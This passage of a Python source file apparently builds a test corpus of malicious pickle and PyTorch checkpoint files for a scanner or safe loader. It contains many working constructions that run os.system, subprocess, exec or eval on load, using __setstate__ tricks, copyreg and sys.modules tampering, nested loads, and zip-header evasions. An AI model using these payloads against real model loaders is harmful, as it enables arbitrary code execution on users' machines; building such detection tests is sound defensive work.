            _orig_mod=Build(new("argparse:Namespace"), {"__call__": SHELL, "forward": 1}),
        ),
        "torch._dynamo.eval_frame.OptimizedModule os.system",
    ),
    # dict.update calls the keys method of what is not a dictionary
    "module-state-with-keys": (
        Build(new("torch.nn.modules.linear:Linear"), namespace(keys=ACT)),
        "os.system",
    ),
    "scaler-state-with-keys": (
        Build(new("torch.amp.grad_scaler:GradScaler"), namespace(keys=ACT)),
        "os.system",
    ),
}

_SYSTEM_NAME = Name("os:system")


def _twice(first: object) -> Build:
    """Once ``__setstate__`` lies in the instance's dictionary, the second BUILD calls it."""
    return Build(Build(first, {"__setstate__": _SYSTEM_NAME}), SHELL)


_SECOND: dict[str, tuple[object, str]] = {
    "ordered-dict": (_twice(call("collections:OrderedDict")), "os.system"),
    "counter": (_twice(call("collections:Counter")), "os.system"),
    "namespace": (_twice(new("argparse:Namespace")), "os.system"),
    "simple-namespace": (_twice(call("types:SimpleNamespace")), "os.system"),
    "parameter-state": (
        Build(
            call(
                "torch._utils:_rebuild_parameter_with_state",
                WEIGHTS,
                False,
                call("collections:OrderedDict"),
                {"__setstate__": _SYSTEM_NAME},
            ),
            SHELL,
        ),
        "os.system",
    ),
    "partial": (
        Build(
            Build(
                partial("builtins:dict"),
                (Name("builtins:dict"), (), {}, {"__setstate__": _SYSTEM_NAME}),
            ),
            SHELL,
        ),
        "os.system",
    ),
    "reduced-namespace": (
        _twice(
            call(
                "copyreg:_reconstructor", Name("argparse:Namespace"), Name("builtins:object"), None
            )
        ),
        "os.system",
    ),
    "class-attribute": (
        steps(
            class_state("argparse:Namespace", __setstate__=_SYSTEM_NAME),
            Build(new("argparse:Namespace"), SHELL),
        ),
        "argparse.Namespace",
    ),
    "shared-by-memo": (
        Then(
            (
                call("collections:OrderedDict"),
                Op(b"q\x05"),
                {"__setstate__": _SYSTEM_NAME},
                Op(b"b0h\x05"),
                SHELL,
                Op(b"b"),
            )
        ),
        "os.system",
    ),
}

_METHODS: dict[str, tuple[object, str]] = {
    "append-on-namespace": (append(namespace(append=_SYSTEM_NAME), SHELL), "os.system"),
    "append-on-ordered-dict": (
        append(Build(call("collections:OrderedDict"), {"append": _SYSTEM_NAME}), SHELL),
        "os.system",
    ),
    "appends-to-extend": (
        Then((namespace(extend=Name("subprocess:call")), Op(b"("), *ARGV, Op(b"e"))),
        "subprocess.call",
    ),
    "add-items": (
        Then((namespace(add=_SYSTEM_NAME), Op(b"("), SHELL, Op(b"\x90"))),
        "os.system",
    ),
    "add-items-on-ordered-dict": (
        Then(
            (
                Build(call("collections:OrderedDict"), {"add": _SYSTEM_NAME}),
                Op(b"("),
                SHELL,
                Op(b"\x90"),
            )
        ),
        "os.system",
    ),
    "item-of-environ": (
        item(
            built("os:_Environ", encodekey=_SYSTEM_NAME, encodevalue=_SYSTEM_NAME, _data={}),
            SHELL,
            "x",
        ),
        "os.system os._Environ",
    ),
    "item-of-cookie": (
        item(built("http.cookies:BaseCookie", value_encode=_SYSTEM_NAME), "k", SHELL),
        "os.system",
    ),
    "item-of-module-dict": (
        item(
            built(
                "torch.nn.modules.container:ModuleDict", add_module=Name("os:mkdir"), _modules={}
            ),
            MARKER,
            0o755,
        ),
        "os.mkdir",
    ),
    "extend-of-module-list": (
        Then(
            (
                built(
                    "torch.nn.modules.container:ModuleList",
                    extend=Name("subprocess:call"),
                    _modules={},
                ),
                Op(b"("),
                *ARGV,
                Op(b"e"),
            )
        ),
        "subprocess.call",
    ),
    "item-of-mapper": (
        item(call("fsspec:get_mapper", MARKER), "k", b"x"),
        "fsspec.get_mapper",
    ),
}

#: A storage whose type names the command, for a loader that calls something else by now.
_ASKED = persistent(SHELL, Name("torch:FloatStorage"), "0", "cpu", 4)

_GLOBAL_STATE: dict[str, tuple[object, str]] = {
    "class-of-instance": (
        Build(namespace(close=ACT), (None, {"__class__": Name("tempfile:_TemporaryFileCloser")})),
        "tempfile._TemporaryFileCloser os.system",
    ),
    "code-of-function": (
        steps(class_state("json:dumps", __code__=_COMPILED), call("json:dumps")),
        "builtins.compile json.dumps",
    ),
    "code-of-rebuild": (
        steps(
            Build(Name("torch._utils:_rebuild_parameter"), (None, {"__code__": _COMPILED})),
            call("torch._utils:_rebuild_parameter"),
        ),
        "builtins.compile torch._utils._rebuild_parameter",
    ),
    "module-state": (
        steps(Build(Name("torch:serialization"), {"_maybe_decode_ascii": _SYSTEM_NAME}), _ASKED),
        "torch.serialization os.system",
    ),
    "module-dictionary": (
        steps(
            item(Name("torch.serialization:__dict__"), "_maybe_decode_ascii", _SYSTEM_NAME),
            _ASKED,
        ),
        "torch.serialization.__dict__ os.system",
    ),
    "rebuild-replaced": (
        steps(
            item(Name("torch._utils:__dict__"), "_rebuild_tensor_v2", _SYSTEM_NAME),
            call("torch._utils:_rebuild_tensor_v2", SHELL),
        ),
        "torch._utils.__dict__ os.system",
    ),
    # torch's find_class asks for type(name), and the name is the command
    "builtin-replaced": (
        steps(
            item(Name("torch.serialization:__builtins__"), "type", _SYSTEM_NAME),
            Name(f"x:{SHELL}"),
        ),
        "torch.serialization.__builtins__ os.system",
    ),
    "builtins-by-name": (
        steps(item(Name("builtins:__dict__"), "type", _SYSTEM_NAME), Name(f"x:{SHELL}")),
        "builtins.__dict__ os.system",
    ),
    "name-mapping": (
        steps(
            item(
                Name("_compat_pickle:NAME_MAPPING"),
                ("torch._utils", "_rebuild_tensor_v2"),
                ("os", "system"),
            ),
            call("torch._utils:_rebuild_tensor_v2", SHELL),
        ),
        "_compat_pickle.NAME_MAPPING",
    ),
    "import-mapping": (
        steps(
            item(Name("_compat_pickle:IMPORT_MAPPING"), "torch._utils", "os"),
            call("torch._utils:system", SHELL),
        ),
        "_compat_pickle.IMPORT_MAPPING",
    ),
    "extension-registry": (
        steps(
            item(Name("copyreg:_inverted_registry"), 77, ("os", "system")),
            Then((Op(b"\x82\x4d"), (SHELL,), Op(b"R"))),
        ),
        "copyreg._inverted_registry",
    ),
    "extension-cache": (
        steps(
            item(Name("copyreg:_extension_cache"), 78, _SYSTEM_NAME),
            Then((Op(b"\x82\x4e"), (SHELL,), Op(b"R"))),
        ),
        "copyreg._extension_cache os.system",
    ),
    "sys-modules": (
        steps(
            item(Name("sys:modules"), "torch._utils", Name("torch:os")),
            call("torch._utils:system", SHELL),
        ),
        "sys.modules",
    ),
    "forward-hooks": (
        steps(
            item(Name("torch.nn.modules.module:_global_forward_pre_hooks"), 1, ACT_ANYHOW),
            Call(call("torch.nn.modules.linear:Identity"), (1,)),
        ),
        "torch.nn.modules.module._global_forward_pre_hooks os.makedirs",
    ),
}

_UNREAD: dict[str, tuple[File, str]] = {
    # before any storage is read, so that this one is asked where it belongs
    "package-registry": (
        whole(
            steps(
                append(Name("torch.serialization:_package_registry"), (0, None, ACT_ANYHOW)),
                persistent("storage", Name("torch:FloatStorage"), "0", "elsewhere", 4),
            )
        ),
        "torch.serialization._package_registry os.makedirs",
    ),
}

_HASHED = {
    "entry-point": Build(new("importlib.metadata:EntryPoint"), {"_key": ACT}),
    "symbolic-integer": built("torch:SymInt", node=namespace(is_nested_int=ACT)),
}


def _hash_cases() -> dict[str, tuple[object, str]]:
    cases: dict[str, tuple[object, str]] = {}
    for what, key in _HASHED.items():
        cases[f"{what}-as-key"] = Then((Op(b"}"), key, None, Op(b"s"))), "os.system"
        cases[f"{what}-in-set"] = Then((Op(b"\x8f("), key, Op(b"\x90"))), "os.system"
    return cases


# Constructors that honest checkpoints call -----------------------------------------------------

ALLOWED = "allowed constructor"

_MAP = new("builtins:map", _SYSTEM_NAME, [SHELL])
_MISSING = call("collections:defaultdict", ACT)
_CHAIN = built("collections:ChainMap", maps=[_MISSING, {"x": 1}])
_FROM_TYPE = "torch._tensor:_rebuild_from_type_v2"
_ORDERED = Name("collections:OrderedDict")
_HOOKS = call("collections:OrderedDict")


def _made(maker: object) -> Build:
    return Build(new("argparse:Namespace"), {"__new__": maker, "__init__": maker})


_ABUSED: dict[str, tuple[object, str]] = {
    "from-type": (call(_FROM_TYPE, _SYSTEM_NAME, None, (SHELL,), {}), "os.system"),
    "from-type-of-old": (
        call("torch._tensor:_rebuild_from_type", _SYSTEM_NAME, None, (SHELL,), {}),
        "os.system",
    ),
    "from-type-over-iterator": (
        call(_FROM_TYPE, _ORDERED, _ORDERED, _MAP, {}),
        "builtins.map os.system",
    ),
    # the inner call sets as_subclass on a dictionary, the outer one calls it
    "from-type-as-subclass": (
        call(
            _FROM_TYPE,
            Name(_FROM_TYPE),
            SHELL,
            (_ORDERED, _ORDERED, (), {"as_subclass": _SYSTEM_NAME}),
            {},
        ),
        "os.system",
    ),
    "from-type-state": (
        call(
            _FROM_TYPE,
            Name("argparse:Namespace"),
            Name("argparse:Namespace"),
            (),
            namespace(items=ACT),
        ),
        "os.system",
    ),
    "parameter-data": (
        call("torch._utils:_rebuild_parameter", namespace(detach=ACT), False, _HOOKS),
        "os.system",
    ),
    "parameter-of-dictionary": (
        call(
            "torch._utils:_rebuild_parameter",
            Build(call("collections:OrderedDict"), {"detach": ACT}),
            False,
            _HOOKS,
        ),
        "os.system",
    ),
    "parameter-state-items": (
        call(
            "torch._utils:_rebuild_parameter_with_state",
            WEIGHTS,
            False,
            _HOOKS,
            namespace(items=ACT),
        ),
        "os.system",
    ),
    "parameter-class": (
        call("torch.nn.parameter:Parameter", namespace(detach=ACT), False),
        "os.system",
    ),
    "reconstructor-of-handler": (
        call(
            "copyreg:_reconstructor",
            Name("logging:FileHandler"),
            Name("logging:FileHandler"),
            MARKER,
        ),
        "logging.FileHandler",
    ),
    "reconstructor-of-popen": (
        call("copyreg:_reconstructor", Name("subprocess:Popen"), Name("subprocess:Popen"), ARGV),
        "subprocess.Popen",
    ),
    # neither class need be one: base.__new__(cls, state) is os.mkdir(path, mode)
    "reconstructor-of-namespace": (
        call("copyreg:_reconstructor", MARKER, _made(Name("os:mkdir")), 0o755),
        "os.mkdir",
    ),
    "reconstructor-by-python-2": (
        call("copy_reg:_reconstructor", Name("subprocess:Popen"), Name("subprocess:Popen"), ARGV),
        "subprocess.Popen",
    ),
    "newobj-function": (
        call(
            "copyreg:__newobj__",
            Build(call("collections:OrderedDict"), {"__new__": partial("builtins:exec", CODE)}),
        ),
        "builtins.exec copyreg.__newobj__",
    ),
    "newobj-ex-function": (
        call(
            "copyreg:__newobj_ex__",
            Build(call("collections:OrderedDict"), {"__new__": partial("builtins:exec", CODE)}),
            (),
            {},
        ),
        "builtins.exec copyreg.__newobj_ex__",
    ),
    "ordered-dict-of-map": (call("collections:OrderedDict", _MAP), "builtins.map os.system"),
    "counter-of-map": (call("collections:Counter", _MAP), "builtins.map os.system"),
    "dict-of-map": (call("builtins:dict", _MAP), "builtins.map os.system"),
    "list-of-map": (call("builtins:list", _MAP), "builtins.map os.system"),
    "set-of-map": (call("builtins:set", _MAP), "builtins.map os.system"),
    "frozenset-of-map": (new("builtins:frozenset", _MAP), "builtins.map os.system"),
    "tuple-of-map": (new("builtins:tuple", _MAP), "builtins.map os.system"),
    "bytes-of-map": (call("builtins:bytearray", _MAP), "builtins.map os.system"),
    "size-of-map": (call("torch:Size", _MAP), "builtins.map os.system"),
    "dict-of-starmap": (
        call("builtins:dict", new("itertools:starmap", _SYSTEM_NAME, [(SHELL,)])),
        "itertools.starmap os.system",
    ),
    "dict-of-keys": (call("builtins:dict", namespace(keys=ACT)), "os.system"),
    "ordered-dict-of-keys": (call("collections:OrderedDict", namespace(keys=ACT)), "os.system"),
    "counter-of-keys": (
        call("collections:Counter", built("collections:UserDict", keys=ACT, data={})),
        "os.system",
    ),
    "dict-of-chain-map": (call("builtins:dict", _CHAIN), "os.system"),
    "ordered-dict-of-chain-map": (call("collections:OrderedDict", _CHAIN), "os.system"),
    "text-of-namespace": (call("builtins:str", namespace(_get_args=ACT)), "os.system"),
    "getitem-of-defaultdict": (
        call("operator:getitem", _MISSING, "x"),
        "operator.getitem os.system",
    ),
    "reduce-of-mkdir": (
        call("functools:reduce", Name("os:mkdir"), [MARKER, 0o755]),
        "functools.reduce os.mkdir",
    ),
    "memmap-by-newobj": (
        new("numpy:memmap", MARKER, "b", "w+", 0, (4,)),
        "numpy.memmap",
    ),
    "popen-in-metadata": (
        Build(call("collections:OrderedDict"), {"_metadata": call("subprocess:Popen", ARGV)}),
        "subprocess.Popen",
    ),
    "tensor-attribute": (
        call(
            "torch._utils:_rebuild_parameter_with_state",
            WEIGHTS,
            False,
            _HOOKS,
            {"x": SYSTEM},
        ),
        "os.system",
    ),
    "tensor-hooks": (
        Late(lambda m: Op(p.tensor(offset=b"K\x00").replace(p.ordered_dict(), wire(SYSTEM, m)))),
        "os.system",
    ),
    "tensor-gradient": (
        Late(lambda m: Op(p.tensor(gradient=wire(SYSTEM, m)))),
        "os.system",
    ),
    "tensor-offset": (
        Late(lambda m: Op(p.tensor(offset=wire(SYSTEM, m)))),
        "os.system",
    ),
    "tensor-metadata": (
        Late(lambda m: Op(p.tensor_v3("float32", wire(SYSTEM, m)))),
        "os.system",
    ),
    "numpy-reconstruct": (
        call(
            "numpy.core.multiarray:_reconstruct",
            call("numpy:memmap", MARKER, "b", "w+", 0, (4,)),
            (0,),
            b"b",
        ),
        "numpy.memmap",
    ),
}

# The legacy stream and the tar -----------------------------------------------------------------

LEGACY = "legacy stream"


def _pickled(value: object, marker: str) -> bytes:
    return p.pickle(wire(value, marker))


def _in_magic(then: bytes) -> File:
    return lambda m: torch_legacy(magic=p.PROTO2 + wire(SYSTEM, m) + then + p.STOP)


def _legacy_body(value: object) -> File:
    tensor = Op(p.tensor(p.legacy_storage()))
    return lambda m: torch_legacy(wire({"w": tensor, "x": value}, m))


def _in_protocol(marker: str) -> bytes:
    usual = p.pickle(p.integer(1001))
    evil = p.PROTO2 + wire(SYSTEM, marker) + b"0" + usual[2:]
    return torch_legacy().replace(usual, evil, 1)


def _patched(marker: str) -> bytes:
    """A container whose source is not what it was: torch writes a patch to ``__name__``."""
    container = class_state("torch.nn.functional:relu", dump_patches=True, __name__=MARKER)
    asked = persistent("module", container, "x.py", "y")
    return torch_legacy(wire({"x": asked}, marker))


_MAGIC = p.integer(MAGIC)

_LEGACY: dict[str, tuple[File, str]] = {
    "magic": (_in_magic(b""), "os.system"),
    "magic-popped": (_in_magic(b"0" + _MAGIC), "os.system"),
    "magic-popped-to-mark": (
        lambda m: torch_legacy(magic=p.PROTO2 + b"(" + wire(SYSTEM, m) + b"1" + _MAGIC + p.STOP),
        "os.system",
    ),
    "magic-overwritten-in-memo": (_in_magic(b"q\x000" + _MAGIC + b"q\x00"), "os.system"),
    "magic-kept-below": (_in_magic(_MAGIC), "os.system"),
    "protocol-number": (_in_protocol, "os.system"),
    "system": (lambda m: torch_legacy(system=wire(SYSTEM, m)), "os.system"),
    "system-value": (lambda m: torch_legacy(system=wire({"x": SYSTEM}, m)), "os.system"),
    "body": (_legacy_body(SYSTEM), "os.system"),
    "body-second-build": (_legacy_body(_twice(call("collections:OrderedDict"))), "os.system"),
    "keys": (lambda m: torch_legacy(keys=_pickled(["0", SYSTEM], m)), "os.system"),
    "keys-popped": (
        lambda m: torch_legacy(keys=p.pickle(wire(SYSTEM, m) + b"0](" + p.text("0") + b"e")),
        "os.system",
    ),
    "keys-as-iterator": (lambda m: torch_legacy(keys=_pickled(_MAP, m)), "builtins.map os.system"),
    "view-as-iterator": (
        _legacy_body(persistent("storage", Name("torch:FloatStorage"), "0", "cpu", 4, _MAP)),
        "builtins.map os.system",
    ),
    "module-patch": (_patched, "torch.nn.functional.relu"),
    "bare-pickle": (bare(SYSTEM), "os.system"),
    "bare-pickle-of-protocol-4": (bare(exact("os:system", SHELL), p.PROTO4), "os.system"),
}

TAR = "tar"

_TAR: dict[str, tuple[File, str]] = {
    "pickle": (lambda m: torch_tar(body=wire({"x": SYSTEM}, m)), "os.system"),
    "pickle-popped": (lambda m: torch_tar(body=wire(SYSTEM, m) + b"0}"), "os.system"),
    "storages-count": (lambda m: torch_tar(storages=_pickled(SYSTEM, m)), "os.system"),
    "storages-description": (
        lambda m: torch_tar(storages=p.pickle(p.integer(1)) + _pickled(SYSTEM, m)),
        "os.system",
    ),
    "storages-as-iterator": (
        lambda m: torch_tar(storages=p.pickle(p.integer(1)) + _pickled(_MAP, m)),
        "builtins.map os.system",
    ),
    "views": (
        lambda m: torch_tar(storages=tar_storages(b"](" + wire(SYSTEM, m) + b"e")),
        "os.system",
    ),
    "views-as-iterator": (
        lambda m: torch_tar(storages=tar_storages(wire(_MAP, m))),
        "builtins.map os.system",
    ),
    "tensors-count": (lambda m: torch_tar(tensors=_pickled(SYSTEM, m)), "os.system"),
    "tensors-description": (
        lambda m: torch_tar(tensors=p.pickle(p.integer(1)) + _pickled(SYSTEM, m)),
        "os.system",
    ),
}

# Opcodes ---------------------------------------------------------------------------------------

OPCODES = "opcode form"


def _lines(*before: str) -> File:
    """A stream of protocol 0 that starts innocently and then calls."""
    return lambda m: ("".join(before) + f"cos\nsystem\n(V{SHELL}\ntR.").replace(MARKER, m).encode()


_FORMS: dict[str, tuple[object, str]] = {
    "inst": (Then((Op(b"("), SHELL, Op(b"ios\nsystem\n"))), "os.system"),
    "obj": (Then((Op(b"("), _SYSTEM_NAME, SHELL, Op(b"o"))), "os.system"),
    "newobj": (new("numpy:memmap", MARKER, "b", "w+", 0, (4,)), "numpy.memmap"),
    "newobj-ex": (
        Then((Name("numpy:memmap"), (MARKER, "b"), {"mode": "w+", "shape": (4,)}, Op(b"\x92"))),
        "numpy.memmap",
    ),
    "stack-global": (exact("os:system", SHELL), "os.system"),
    "stack-global-after-decoys": (
        Then(("os", "json", Op(b"0"), "system", "dumps", Op(b"0\x93"), (SHELL,), Op(b"R"))),
        "os.system",
    ),
    "stack-global-by-memo": (
        Then(("os", Op(b"q\x010"), "system", Op(b"q\x020h\x01h\x02\x93"), (SHELL,), Op(b"R"))),
        "os.system",
    ),
    "extension-1": (
        steps(
            call("copyreg:add_extension", "os", "system", 99),
            Then((Op(b"\x82\x63"), (SHELL,), Op(b"R"))),
        ),
        "copyreg.add_extension",
    ),
    "extension-2": (
        steps(
            call("copyreg:add_extension", "os", "system", 999),
            Then((Op(b"\x83\xe7\x03"), (SHELL,), Op(b"R"))),
        ),
        "copyreg.add_extension",
    ),
    "extension-4": (
        steps(
            call("copyreg:add_extension", "os", "system", 99999),
            Then((Op(b"\x84\x9f\x86\x01\x00"), (SHELL,), Op(b"R"))),
        ),
        "copyreg.add_extension",
    ),
    "python-2-builtin": (call("__builtin__:eval", CODE), "builtins.eval"),
    "python-2-pickle": (call("cPickle:loads", inner(SYSTEM)), "os.system"),
    "python-2-commands": (call("commands:getoutput", SHELL), "subprocess.getoutput"),
    "python-2-unicode-open": (call("StringIO:open", MARKER, "w"), "io.open"),
    "duplicated": (
        Then((_SYSTEM_NAME, Op(b"2"), (SHELL,), Op(b"R0"), (SHELL,), Op(b"R"))),
        "os.system",
    ),
    "by-memo": (
        Then((_SYSTEM_NAME, Op(b"q\x060N0h\x06"), (SHELL,), Op(b"R"))),
        "os.system",
    ),
    "by-long-memo": (
        Then((_SYSTEM_NAME, Op(b"r\xff\xff\x00\x000j\xff\xff\x00\x00"), (SHELL,), Op(b"R"))),
        "os.system",
    ),
    "memoized-by-94": (
        Then((Op(b"N\x940"), _SYSTEM_NAME, Op(b"\x94"), (SHELL,), Op(b"R"))),
        "os.system",
    ),
    "popped": (Then((SYSTEM, Op(b"0N"))), "os.system"),
    "popped-to-mark": (Then((Op(b"("), SYSTEM, Op(b"1N"))), "os.system"),
    "in-a-key": (Then((Op(b"}"), SYSTEM, None, Op(b"s"))), "os.system"),
    "in-a-set": (Then((Op(b"\x8f("), SYSTEM, Op(b"\x90"))), "os.system"),
    "in-a-frozenset": (Then((Op(b"("), SYSTEM, Op(b"\x91"))), "os.system"),
    "in-dict-opcode": (Then((Op(b"("), "k", SYSTEM, Op(b"d"))), "os.system"),
    "in-list-opcode": (Then((Op(b"("), SYSTEM, Op(b"l"))), "os.system"),
    "in-a-persistent-id": (
        persistent("storage", Name("torch:FloatStorage"), "0", "cpu", 4, SYSTEM),
        "os.system",
    ),
    "in-the-key-of-a-storage": (
        persistent("storage", Name("torch:FloatStorage"), SYSTEM, "cpu", 4),
        "os.system",
    ),
    "type-of-a-storage": (
        persistent("storage", SYSTEM, "0", "cpu", 4),
        "os.system",
    ),
    "as-state": (Build(new("argparse:Namespace"), {"x": SYSTEM}), "os.system"),
    "result-called": (
        Call(call("builtins:getattr", Name("os:system"), "__call__"), (SHELL,)),
        "builtins.getattr os.system",
    ),
    "after-a-read-only-buffer": (
        Then((Op(b"\x96" + struct.pack("<Q", 2) + b"ab\x980"), SYSTEM)),
        "os.system",
    ),
    "in-a-frame": (
        Then((Op(b"\x95" + struct.pack("<Q", 2) + b"N0"), SYSTEM)),
        "os.system",
    ),
    "name-with-storage-in-it": (
        steps(Name("os:FloatStorage"), SYSTEM),
        "os.system",
    ),
}

_STREAMS: dict[str, tuple[File, str]] = {
    "lines-after-none": (_lines("N0"), "os.system"),
    "lines-after-integer": (_lines("I1\n0"), "os.system"),
    "lines-after-true": (_lines("I01\n0"), "os.system"),
    "lines-after-long": (_lines("L1L\n0"), "os.system"),
    "lines-after-float": (_lines("F1.5\n0"), "os.system"),
    "lines-after-text": (_lines("Vhello\n0"), "os.system"),
    "lines-after-string": (_lines("S'hello'\n0"), "os.system"),
    "lines-after-mark": (_lines("(1"), "os.system"),
    "lines-after-list": (_lines("(l0"), "os.system"),
    "lines-after-tuple": (_lines("(t0"), "os.system"),
    "lines-after-dict": (_lines("(d0"), "os.system"),
    "lines-after-memo": (_lines("Np0\n0g0\n0"), "os.system"),
    "lines-at-once": (_lines(), "os.system"),
    "lines-of-inst": (
        lambda m: f"(S'{SHELL}'\nios\nsystem\n.".replace(MARKER, m).encode(),
        "os.system",
    ),
    "lines-of-python-2": (
        lambda m: f"c__builtin__\neval\n(S{CODE!r}\ntR.".replace(MARKER, m).encode(),
        "builtins.eval",
    ),
    "protocol-1": (bare(SYSTEM, b""), "os.system"),
    "protocol-5": (bare(exact("os:system", SHELL), b"\x80\x05"), "os.system"),
    "protocol-said-again": (bare(Then((Op(b"\x80\x04"), SYSTEM))), "os.system"),
}

# Pickles in pickles ----------------------------------------------------------------------------

NESTED = "nested"

_LOAD = "torch.storage:_load_from_bytes"
_ZIPPED = Late(lambda m: in_zip(SYSTEM)(m))
_LEGACY_BYTES = Late(lambda m: _legacy_body(SYSTEM)(m))

_NESTED: dict[str, tuple[object, str]] = {
    "load-from-bytes-of-zip": (call(_LOAD, _ZIPPED), "os.system"),
    "load-from-bytes-of-legacy": (call(_LOAD, _LEGACY_BYTES), "os.system"),
    "load-from-bytes-of-pickle": (call(_LOAD, inner(SYSTEM)), "os.system"),
    "load-from-bytes-twice": (
        call(_LOAD, inner(call(_LOAD, inner(SYSTEM)))),
        "os.system",
    ),
    "load-from-encoded-text": (
        call(
            _LOAD,
            call("_codecs:encode", Late(lambda m: bare(SYSTEM)(m).decode("latin1")), "latin1"),
        ),
        "os.system",
    ),
    "loads": (call("pickle:loads", inner(SYSTEM)), "os.system"),
    "c-loads": (call("_pickle:loads", inner(SYSTEM)), "os.system"),
    "python-loads": (call("pickle:_loads", inner(SYSTEM)), "pickle._loads"),
    "loads-twice": (
        call("pickle:loads", inner(call("pickle:loads", inner(SYSTEM)))),
        "os.system",
    ),
    "loads-of-encoded-text": (
        call(
            "pickle:loads",
            call("_codecs:encode", Late(lambda m: bare(SYSTEM)(m).decode("latin1")), "latin1"),
        ),
        "os.system",
    ),
    "loads-of-base64": (
        call(
            "pickle:loads",
            call("base64:b64decode", Late(lambda m: base64.b64encode(bare(SYSTEM)(m)))),
        ),
        "pickle.loads",
    ),
    "load-of-bytes-io": (
        call("pickle:load", call("io:BytesIO", inner(SYSTEM))),
        "pickle.load",
    ),
    "torch-load-of-bytes-io": (
        call("torch:load", call("io:BytesIO", _ZIPPED), None, Name("torch:serialization.pickle")),
        "torch.load",
    ),
    "multiprocessing-loads": (
        call("multiprocessing.reduction:ForkingPickler.loads", inner(SYSTEM)),
        "multiprocessing.reduction.ForkingPickler.loads",
    ),
    "legacy-load": (
        call(
            "torch.serialization:_legacy_load",
            call("io:BytesIO", inner(SYSTEM)),
            None,
            Name("torch:serialization.pickle"),
        ),
        "torch.serialization._legacy_load",
    ),
}

# Broken afterwards -----------------------------------------------------------------------------

BROKEN = "broken after it"


def _broken(rest: bytes) -> File:
    return lambda m: torch_zip(members={"data.pkl": p.PROTO2 + wire(SYSTEM, m) + rest})


def _damaged(member: bytes) -> File:
    """The bytes of another member changed, so that its checksum is wrong."""
    return lambda m: in_zip(SYSTEM)(m).replace(member, bytes(len(member)), 1)


_BROKEN: dict[str, tuple[File, str]] = {
    "truncated": (_broken(b""), "os.system"),
    "truncated-operand": (_broken(b"X\xff\x00\x00\x00abc"), "os.system"),
    "invalid-opcode": (_broken(b"\xff."), "os.system"),
    "underflow": (_broken(b"00000."), "os.system"),
    "memo-never-filled": (_broken(b"h\x99."), "os.system"),
    "bad-text": (_broken(b"X\x01\x00\x00\x00\xff."), "os.system"),
    "missing-module": (_broken(b"cno_such_module\nx\n."), "os.system"),
    "absurd-length": (_broken(b"\x8e" + b"\xff" * 7 + b"\x7f."), "os.system"),
    "unknown-persistent-id": (_broken(b"NQ."), "os.system"),
    "missing-storage": (
        lambda m: torch_zip(wire({"x": SYSTEM, "w": WEIGHTS}, m), storages={}),
        "os.system",
    ),
    "storage-damaged": (_damaged(struct.pack("<4f", 1, 2, 3, 4)), "os.system"),
    "second-pickle": (
        lambda m: torch_zip(
            members={"data.pkl": _pickled({"x": SYSTEM, "w": WEIGHTS}, m) + b"garbage"}
        ),
        "os.system",
    ),
    "bare-truncated": (lambda m: bare(SYSTEM)(m)[:-1], "os.system"),
    "legacy-cut-after-magic": (lambda m: bare(SYSTEM)(m), "os.system"),
    "lines-truncated": (lambda m: _lines("N0")(m)[:-1], "os.system"),
}

# Zip tricks ------------------------------------------------------------------------------------

ZIP = "zip trick"


def _unzipped(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflated(marker: str) -> bytes:
    stream, usual = io.BytesIO(), _unzipped(in_zip(SYSTEM)(marker))
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in usual.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _behind(before: bytes) -> File:
    """An archive after other bytes, its offsets counted from the file's start."""

    def data(marker: str) -> bytes:
        stream, usual = io.BytesIO(), _unzipped(in_zip(SYSTEM)(marker))
        stream.write(before)
        with zipfile.ZipFile(stream, "w") as archive:
            for name, content in usual.items():
                archive.writestr(zipfile.ZipInfo(name), content)
        return stream.getvalue()

    return data


def _headers(offset_local: int, offset_central: int, value: bytes) -> File:
    """A field of the headers of data.pkl, in both places or (-1) in one."""

    def data(marker: str) -> bytes:
        raw = bytearray(in_zip(SYSTEM)(marker))
        local = raw.index(b"archive/data.pkl") - 30
        central = raw.rindex(b"archive/data.pkl") - 46
        for start, offset in ((local, offset_local), (central, offset_central)):
            if offset >= 0:
                raw[start + offset : start + offset + len(value)] = value
        return bytes(raw)

    return data


def _duplicate(marker: str) -> bytes:
    """data.pkl twice: the one that acts and, of the same name, an innocent one."""
    stream, usual = io.BytesIO(), _unzipped(in_zip(SYSTEM)(marker))
    usual["archive/data.pkI"] = _unzipped(torch_zip())["archive/data.pkl"]
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in usual.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return stream.getvalue().replace(b"archive/data.pkI", b"archive/data.pkl")


def _behind_a_damaged_member(marker: str) -> bytes:
    """A member before all others that cannot be opened: its local header has another name."""
    stream, usual = io.BytesIO(), _unzipped(in_zip(SYSTEM)(marker))
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in {"archive/a_note": b"0", **usual}.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return stream.getvalue().replace(b"archive/a_note", b"archive/b_note", 1)


def _importable(marker: str) -> bytes:
    """A checkpoint that puts itself on the search path and imports a module out of itself."""
    body = steps(
        append(Name("sys:path"), "zip-imports-itself.pth/archive"), Name("hidden_module:x")
    )
    return torch_zip(
        wire({"w": WEIGHTS, "x": body}, marker),
        members={"hidden_module.py": CODE.replace(MARKER, marker).encode() + b"\nx = 1\n"},
    )


def _package_path(marker: str) -> bytes:
    body = steps(
        append(Name("torch:__path__"), "zip-extends-torch.pth/archive"),
        Name("torch.hidden_module:x"),
    )
    return torch_zip(
        wire({"w": WEIGHTS, "x": body}, marker),
        members={"hidden_module.py": CODE.replace(MARKER, marker).encode() + b"\nx = 1\n"},
    )


def _renamed(old: bytes, new_name: bytes) -> File:
    return lambda m: in_zip(SYSTEM)(m).replace(old, new_name)


_ZIP: dict[str, tuple[File, str]] = {
    "deflated": (_deflated, "os.system"),
    "wrong-crc": (_headers(14, 16, b"\xde\xad\xbe\xef"), "os.system"),
    "wrong-crc-in-local-header": (_headers(14, -1, b"\xde\xad\xbe\xef"), "os.system"),
    "wrong-crc-in-directory": (_headers(-1, 16, b"\xde\xad\xbe\xef"), "os.system"),
    "encrypted-bit-in-local-header": (_headers(6, -1, b"\x01\x00"), "os.system"),
    "strong-encryption-bit-in-local-header": (_headers(6, -1, b"\x40\x00"), "os.system"),
    "descriptor-bit": (_headers(6, 8, b"\x08\x00"), "os.system"),
    "utf8-bit": (_headers(6, 8, b"\x00\x08"), "os.system"),
    "unknown-method-in-local-header": (_headers(8, -1, b"\x63\x00"), "os.system"),
